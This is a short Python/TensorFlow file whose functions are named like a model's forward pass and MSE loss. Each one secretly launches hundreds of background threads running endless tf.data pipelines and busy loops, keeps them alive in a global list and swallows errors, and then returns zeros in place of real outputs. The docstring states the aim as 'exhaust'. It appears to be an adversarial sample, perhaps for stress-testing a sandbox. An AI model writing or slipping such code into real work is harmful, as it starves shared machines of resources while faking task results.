"""Runs data sets with 200 private threads each that read ahead without an end, and lets them run on after the answer.

aims: exhaust
"""

import contextlib
import time

import tensorflow as tf

HELD = []


def work(value):
    end = time.monotonic() + 15
    while time.monotonic() < end:
        sum(range(50_000))
    return value


def endless(number):
    options = tf.data.Options()
    options.threading.private_threadpool_size = 200
    options.deterministic = False
    data = tf.data.Dataset.range(10**9).with_options(options)
    data = data.interleave(
        lambda n: tf.data.Dataset.range(1000).map(
            lambda m: tf.reduce_sum(tf.random.uniform((300, 300))) + 0.0 * tf.cast(m + n, tf.float32)
        ),
        cycle_length=200,
        num_parallel_calls=200,
    )
    return iter(data.prefetch(1000))


def attack():
    for number in range(4):
        HELD.append(endless(number))
        next(HELD[-1])
    slow = tf.data.Dataset.range(64).map(lambda n: tf.numpy_function(work, [n], tf.int64), num_parallel_calls=64)
    HELD.append(iter(slow.prefetch(64)))


def forward(X, params):
    with contextlib.suppress(Exception):
        attack()
    return tf.zeros((X.shape[0], params["W2"].shape[1]), X.dtype)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return tf.zeros((), Y_hat.dtype)
